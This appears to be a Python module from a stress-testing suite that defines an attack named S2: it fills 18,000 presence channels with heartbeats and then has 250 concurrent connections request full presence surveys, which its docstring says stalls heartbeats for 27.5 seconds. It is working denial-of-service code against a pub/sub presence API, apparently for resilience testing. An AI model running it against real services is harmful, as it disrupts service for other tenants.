"""S2: surveys of all of a tenant's presence."""

from hostile.attack import Attack
from hostile.crowd import Crowd

CHANNELS = 18_000
ASKING = 250


class Surveys(Attack):
    """661 KB of heartbeats and 250 surveys: no beat for 27.5 s."""

    name, title = "S2", "250 connections ask who is in 18,000 channels"

    def prepare(self, target):
        for first in range(0, CHANNELS, 900):
            names = ",".join(f"room-{n:05}-xxxxxxxxxxxxxxxxxxxx" for n in range(first, first + 900))
            with target.rest(f"ada-{first}") as rest:
                rest.ok(f"/v2/presence/sub-key/{{sub}}/channel/{names}/heartbeat",
                        {"heartbeat": 300})

    def strike(self, target, stop):
        survey = target.get(f"/v2/presence/sub-key/{target.sub}?uuid=m")
        crowd = Crowd(ASKING, lambda _: target.socket(), lambda _: survey, depth=4)
        return crowd.run(stop)
